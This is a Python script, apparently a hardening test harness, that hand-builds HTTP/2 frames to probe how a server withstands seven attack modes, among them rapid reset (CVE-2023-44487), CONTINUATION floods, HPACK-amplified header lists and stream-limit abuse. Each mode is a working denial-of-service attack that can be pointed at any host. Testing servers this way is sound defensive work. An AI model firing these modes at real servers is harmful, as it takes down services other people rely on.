#!/usr/bin/env python3
"""A hostile HTTP/2 client over h2c (prior knowledge), frames written by hand.

Usage: h2_abuse.py HOST PORT MODE
Modes:
  rapid_reset     1000 streams opened and reset at once (CVE-2023-44487)
  reset_after_accept  1000 slow requests, each reset 2 ms after it was sent
  too_many        150 concurrent slow requests (the server allows 100 streams)
  header_flood    one request with a 200 KiB header block, in CONTINUATION frames
  header_list     one request whose header list decodes to 100 KiB, in one frame
  continuation    a header block that never ends, in endless CONTINUATION frames
  out_of_order    DATA on an idle stream, then HEADERS on an even (server) stream id
Prints JSON: {"goaway": error code or null, "closed": bool, "answered": n, "reset": n,
"refused": n, "statuses": [..], "last_stream_answered": bool}
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL, REFUSED_STREAM = 0x8, 0x7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Client:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buf = b""
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.authority = f"{host}:{port}"

    def headers(self, path, extra=()):
        return self.encoder.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", self.authority), (":path", path)]
            + list(extra)
        )

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def read_frames(self, until):
        """Reads frames until `until(result)` holds, the connection closes, or 10 s pass."""
        result = {"goaway": None, "closed": False, "answered": 0, "reset": 0, "refused": 0,
                  "statuses": [], "streams": set()}
        deadline = time.time() + 10
        while not until(result) and time.time() < deadline:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                result["closed"] = True
                break
            if not chunk:
                result["closed"] = True
                break
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, flags = self.buf[3], self.buf[4]
                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload = self.buf[9:9 + length]
                self.buf = self.buf[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == HEADERS:
                    block = payload
                    if flags & 0x8:  # padded
                        block = block[1:len(block) - block[0]]
                    if flags & 0x20:  # priority
                        block = block[5:]
                    try:
                        for name, value in self.decoder.decode(block):
                            if name == ":status":
                                result["statuses"].append(int(value))
                    except Exception:
                        pass
                    result["answered"] += 1
                    result["streams"].add(stream)
                elif kind == RST_STREAM:
                    code = int.from_bytes(payload[:4], "big")
                    result["refused" if code == REFUSED_STREAM else "reset"] += 1
                elif kind == GOAWAY:
                    result["goaway"] = int.from_bytes(payload[4:8], "big")
        return result


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    c = Client(host, port)
    last = None
    if mode == "rapid_reset":
        out = b""
        for i in range(1000):
            stream = 1 + 2 * i
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream, c.headers("/slow/200"))
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        c.send(out)
        result = c.read_frames(lambda r: r["goaway"] is not None or r["closed"])
    elif mode == "reset_after_accept":
        # Each stream reset a moment after it was sent, once the server has taken it up.
        for i in range(1000):
            stream = 1 + 2 * i
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, c.headers("/slow/300"))):
                break
            time.sleep(0.002)
            if not c.send(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))):
                break
        result = c.read_frames(lambda r: r["goaway"] is not None or r["closed"])
        result["sent"] = i + 1
    elif mode == "too_many":
        out = b""
        for i in range(150):
            out += frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, c.headers("/slow/500"))
        c.send(out)
        result = c.read_frames(lambda r: r["answered"] + r["refused"] + r["reset"] >= 150)
    elif mode == "header_flood":
        extra = [(f"x-flood-{i}", "v" * 100) for i in range(2000)]
        block = c.headers("/", extra)
        # In frames of 16 KiB (the default maximum frame size).
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0])
        for i, chunk in enumerate(chunks[1:]):
            out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 2 else 0, 1, chunk)
        c.send(out)
        result = c.read_frames(lambda r: r["answered"] + r["reset"] > 0 or r["goaway"] is not None)
        last = 3
    elif mode == "header_list":
        # 100 KiB of headers once decoded, in one small frame (HPACK indexes the repeats).
        extra = [("x-big", "v" * 100)] * 800
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.headers("/", extra)))
        result = c.read_frames(lambda r: r["answered"] + r["reset"] + r["refused"] > 0 or r["goaway"] is not None)
        last = 3
    elif mode == "continuation":
        c.send(frame(HEADERS, END_STREAM, 1, c.headers("/")))
        sent = 0
        while sent < 20000 and c.send(frame(CONTINUATION, 0, 1, b"\x00" * 1024)):
            sent += 1
        result = c.read_frames(lambda r: r["goaway"] is not None or r["closed"])
        result["continuation_frames_sent"] = sent
    elif mode == "out_of_order":
        c.send(frame(DATA, END_STREAM, 1, b"early"))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 2, c.headers("/")))
        result = c.read_frames(lambda r: r["goaway"] is not None or r["closed"])
    else:
        sys.exit(f"unknown mode {mode}")
    if last is not None and result["goaway"] is None and not result["closed"]:
        # The connection survived: does it still serve a normal request?
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, last, c.headers("/")))
        after = c.read_frames(lambda r: last in r["streams"] or r["closed"])
        result["last_stream_answered"] = last in after["streams"]
    result["streams"] = len(result["streams"])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
